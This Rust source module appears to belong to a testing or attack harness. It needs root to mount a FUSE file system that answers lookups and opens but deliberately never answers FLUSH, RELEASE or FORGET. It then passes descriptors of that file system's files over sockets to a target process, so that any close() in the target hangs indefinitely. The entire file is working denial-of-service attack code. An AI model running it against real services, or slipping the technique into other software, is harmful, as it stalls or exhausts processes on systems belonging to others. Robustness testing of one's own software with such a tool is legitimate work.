//! Files of a file system in user space that answers until a file is open, and then no more: to
//! close a descriptor of such a file takes as long as the file system likes. Needs the superuser.

use std::fs::File;
use std::io::{ErrorKind, Read as _, Write as _};
use std::os::fd::{AsRawFd as _, OwnedFd, RawFd};
use std::os::unix::fs::OpenOptionsExt as _;
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};

use nix::mount::{MntFlags, MsFlags, mount, umount2};

use super::{AgentError, Attack, wire};
use crate::target::child::pause;

/// Requests and answers of the kernel's protocol 7 (`linux/fuse.h`).
const LOOKUP: u32 = 1;
const FORGET: u32 = 2;
const GETATTR: u32 = 3;
const OPEN: u32 = 14;
const RELEASE: u32 = 18;
const FLUSH: u32 = 25;
const INIT: u32 = 26;

/// The least that the kernel accepts as room for a request.
const REQUEST_MAX: usize = 256 * 1024;

/// Of the root and of its only file.
const DIRECTORY: u32 = 0o040_755;
const REGULAR: u32 = 0o100_666;

/// Connections that carry such files and stay open.
const HELD_MAX: usize = 16;

/// Announces files of such a file system as buffers, until the time is over.
pub fn send_its_files(attack: &mut Attack<'_>) -> Result<(), AgentError> {
    let folder = attack.options.folder.clone();
    std::fs::create_dir_all(&folder).map_err(AgentError::io("the folder of the mount"))?;
    let device = File::options()
        .read(true)
        .write(true)
        .custom_flags(libc::O_NONBLOCK)
        .open("/dev/fuse")
        .map_err(AgentError::io("/dev/fuse"))?;
    let options = format!(
        "fd={},rootmode=40000,user_id=0,group_id=0",
        device.as_raw_fd()
    );
    let none: Option<&Path> = None;
    mount(
        none.or(Some(Path::new("punctual-hil"))),
        &folder,
        Some("fuse"),
        MsFlags::empty(),
        Some(options.as_str()),
    )
    .map_err(AgentError::os("mount"))?;
    let over = AtomicBool::new(false);
    let outcome = std::thread::scope(|scope| {
        let (device, over) = (&device, &over);
        scope.spawn(move || serve(device, over));
        let outcome = send(attack, &folder);
        // Relaxed: the scope's end synchronises; this only tells the thread to leave.
        over.store(true, Ordering::Relaxed);
        outcome
    });
    // Its end answers all that is open with an error; then this process' own files close at once.
    drop(device);
    let unmounted = umount2(&folder, MntFlags::MNT_DETACH).map_err(AgentError::os("umount"));
    outcome.map(drop).and(unmounted)
}

/// Sends files; returns them, as they cannot be closed while the file system is silent.
fn send(attack: &mut Attack<'_>, folder: &Path) -> Result<Vec<File>, AgentError> {
    let files: Vec<File> = (0..attack.options.count)
        .map(|_| File::open(folder.join("file")))
        .collect::<Result<_, _>>()
        .map_err(AgentError::io("a file of the mount"))?;
    let carried: Vec<RawFd> = files.iter().map(|file| file.as_raw_fd()).collect();
    let mut held: Vec<OwnedFd> = Vec::new();
    while attack.goes_on(20) {
        held.retain(|socket| !wire::is_closed(socket, 0));
        if held.len() >= HELD_MAX {
            continue;
        }
        let Some(socket) = attack.connected() else {
            continue;
        };
        let opening = wire::opening(&attack.options.task, carried.len() as u16);
        if wire::say(&socket, &opening, &carried) {
            attack.done.descriptors += carried.len() as u64;
        }
        held.push(socket);
    }
    Ok(files)
}

/// Answers the kernel until the time is over; what closes a file is never answered.
fn serve(mut device: &File, over: &AtomicBool) {
    let mut request = vec![0; REQUEST_MAX];
    // Relaxed: see where it is set.
    while !over.load(Ordering::Relaxed) {
        match device.read(&mut request) {
            Ok(length) => {
                if let Some(answer) = answer(&request[..length]) {
                    // Fails when who asked was killed meanwhile.
                    let _ = device.write_all(&answer);
                }
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => pause(2),
            Err(_) => return,
        }
    }
}

/// What to say to a request; nothing to one that closes, or forgets.
fn answer(request: &[u8]) -> Option<Vec<u8>> {
    let word = |at: usize| {
        Some(u32::from_le_bytes(
            request.get(at..at + 4)?.try_into().ok()?,
        ))
    };
    let (asked, unique) = (word(4)?, request.get(8..16)?);
    let node = u64::from_le_bytes(request.get(16..24)?.try_into().ok()?);
    let body = match asked {
        FORGET | FLUSH | RELEASE => return None,
        // Version 7.31, no read-ahead, no features, the kernel's defaults.
        INIT => {
            let mut body = [7_u32.to_le_bytes(), 31_u32.to_le_bytes()].concat();
            body.resize(64, 0);
            body[20..24].copy_from_slice(&4096_u32.to_le_bytes());
            body
        }
        LOOKUP => [&entry()[..], &attributes(2)].concat(),
        GETATTR => [&[0; 16][..], &attributes(node)].concat(),
        OPEN => vec![0; 16],
        _ => return Some(framed(unique, -libc::ENOSYS, &[])),
    };
    Some(framed(unique, 0, &body))
}

/// The only file is node 2.
fn entry() -> [u8; 40] {
    let mut entry = [0; 40];
    entry[0] = 2;
    entry
}

fn attributes(node: u64) -> [u8; 88] {
    let mut attributes = [0; 88];
    attributes[..8].copy_from_slice(&node.to_le_bytes());
    let mode = if node == 1 { DIRECTORY } else { REGULAR };
    attributes[60..64].copy_from_slice(&mode.to_le_bytes());
    attributes[64] = 1;
    attributes
}

fn framed(unique: &[u8], error: i32, body: &[u8]) -> Vec<u8> {
    let length = (16 + body.len()) as u32;
    [
        &length.to_le_bytes()[..],
        &error.to_le_bytes(),
        unique,
        body,
    ]
    .concat()
}
